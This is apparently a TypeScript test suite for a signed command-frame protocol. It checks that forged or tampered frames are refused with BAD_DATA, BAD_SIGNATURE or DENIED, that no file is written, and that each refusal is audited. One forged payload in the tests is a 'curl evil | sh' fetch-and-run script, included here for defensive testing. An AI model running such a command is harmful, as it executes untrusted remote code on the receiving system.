// Signed command frames [cp-cmdframe-3] [cp-cmdframe-4]: the signature covers the JSON header,
// and the header's `data` (length and SHA-256) the bytes. An attacker who can publish but holds no
// trusted key replays a genuine header with other bytes, or rewrites the header to match them: the
// file the chunk would write must not exist afterwards, and each refusal is in the audit log.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { connect, put } from '../../../controller/index.js';
import { COMMAND_FRAME_MAGIC, describeData, encodeCommandFrame, topics } from '../../../protocol/index.js';
import { brokerKinds } from '../../helpers/brokers.js';
import { expectAuditedRefusal, expectNoJobEvents, marker, refusedNotice, signed, trustFixture, writeJson } from './harness.js';

const TERMINAL = new Set(['result', 'error', 'lost']);

describe.each(brokerKinds())('signed command frames on %s', (kind) => {
  const f = trustFixture(kind, 'sigframe-1');

  /** A wrfile chunk header signed by the ops key for `bytes` at offset 0 of `path`. */
  const signedHeader = (path: string, bytes: Buffer) => signed(f, { cmd: 'wrfile', args: [path], opts: { offset: 0, truncate: true }, data: describeData(bytes) });
  const end = async (id: string) => (await f.wire.waitFor((m) => m.topic === topics.job(f.host, id) && TERMINAL.has(m.json?.type), 15_000, `the end of ${id}`)).json;
  /** Sends the frame and checks that it ran and left exactly `bytes` at `path`. */
  const writes = async (path: string, header: { id: string }, bytes: Buffer) => {
    f.wire.send(topics.cmd(f.host), encodeCommandFrame(header as never, bytes));
    expect(await end(header.id)).toMatchObject({ type: 'result', code: 0 });
    expect(readFileSync(path).equals(bytes)).toBe(true);
  };

  it('a signed frame writes its bytes (the control case)', async () => {
    const m = marker(f);
    const bytes = Buffer.from([0xc0, 0, 1, 2, 0xff]);
    await writes(m, signedHeader(m, bytes), bytes);
  });

  it('[cp-cmdframe-4] a genuine signed header with other bytes is BAD_DATA, writes nothing, and does not burn the id', async () => {
    const m = marker(f);
    const genuine = Buffer.from('#!/bin/sh\necho genuine\n');
    const header = signedHeader(m, genuine);
    const n = await refusedNotice(f, encodeCommandFrame(header, Buffer.from('#!/bin/sh\ncurl evil | sh\n')) as any, header.id);
    expect(n.error).toBe('BAD_DATA');
    expect(existsSync(m)).toBe(false);
    expectNoJobEvents(f, header.id);
    expectAuditedRefusal(f, header.id, 'BAD_DATA');
    // The genuine frame, arriving after the forgery, still runs [cp-sig-5].
    await writes(m, header, genuine);
  });

  it('[cp-sig-3] [cp-cmdframe-3] a signed header rewritten to describe other bytes is BAD_SIGNATURE and writes nothing', async () => {
    const m = marker(f);
    const evil = Buffer.from('evil');
    const header = { ...signedHeader(m, Buffer.from('good')), data: describeData(evil) };
    const n = await refusedNotice(f, encodeCommandFrame(header, evil) as any, header.id);
    expect(n.error).toBe('BAD_SIGNATURE');
    expect(existsSync(m)).toBe(false);
    expectNoJobEvents(f, header.id);
    expectAuditedRefusal(f, header.id, 'BAD_SIGNATURE');
  });

  it('[cp-cmdframe-3] the signed JSON form of a frame header cannot run as JSON', async () => {
    const m = marker(f);
    const header = signedHeader(m, Buffer.from('x'));
    f.wire.send(topics.cmd(f.host), { ...header, args: [m, 'x'] });
    const n = await f.wire.waitFor((x) => x.json?.job === header.id && x.json?.type === 'error', 10_000, `the refusal of ${header.id}`);
    expect(['BAD_ENVELOPE', 'BAD_SIGNATURE']).toContain(n.json.error);
    expect(existsSync(m)).toBe(false);
  });

  it('[cp-cmdframe-1] a controller with a signing key puts a file in signed frames', async () => {
    const local = join(f.dir, 'signed-local.bin');
    const bytes = Buffer.alloc(1_000_000, 0xc0);
    writeFileSync(local, bytes);
    const fleet = await connect(f.broker.controllerUrl, { signingKey: f.ops.privateKey });
    try {
      const since = f.wire.messages.length;
      const [r] = await put(fleet, f.host, local, join(f.dir, 'signed-remote.bin'));
      expect(r).toMatchObject({ ok: true, bytes: bytes.length });
      expect(readFileSync(join(f.dir, 'signed-remote.bin')).equals(bytes)).toBe(true);
      const chunks = f.wire.messages.slice(since).filter((x) => x.topic === topics.cmd(f.host) && x.payload[0] === COMMAND_FRAME_MAGIC);
      expect(chunks.length).toBeGreaterThanOrEqual(3);
    } finally {
      await fleet.close();
    }
  });
});

describe.each(brokerKinds())('command frames under a policy on %s', (kind) => {
  const f = trustFixture(kind, 'polframe-1', {
    prepare: (f) => {
      mkdirSync(join(f.dir, 'root'));
      writeJson(join(f.dir, 'policy.json'), {
        keys: { ops: f.ops.pub },
        rules: [{ name: 'uploads', keys: ['ops'], commands: ['wrfile', 'ping'], files: { write: [join(f.dir, 'root')] } }],
      });
    },
    agent: (f) => ({ policyFile: join(f.dir, 'policy.json') }),
  });
  const send = async (path: string, bytes: Buffer) => {
    const header = signed(f, { cmd: 'wrfile', args: [path], opts: { offset: 0, truncate: true }, data: describeData(bytes) });
    f.wire.send(topics.cmd(f.host), encodeCommandFrame(header, bytes));
    return { id: header.id as string, end: (await f.wire.waitFor((m) => m.topic === topics.job(f.host, header.id) && TERMINAL.has(m.json?.type), 15_000, `the end of ${header.id}`)).json };
  };

  it('[cp-cmdframe-3] a frame is confined to the rule\'s roots like any wrfile: inside runs, outside is DENIED and writes nothing', async () => {
    const inside = join(f.dir, 'root', 'ok.bin');
    expect((await send(inside, Buffer.from('fine'))).end).toMatchObject({ type: 'result', code: 0 });
    expect(readFileSync(inside, 'utf8')).toBe('fine');
    const m = marker(f);
    const { id, end: refused } = await send(m, Buffer.from('escaped'));
    expect(refused).toMatchObject({ type: 'error', error: 'DENIED' });
    expect(existsSync(m)).toBe(false);
    expectAuditedRefusal(f, id, 'DENIED');
  });
});
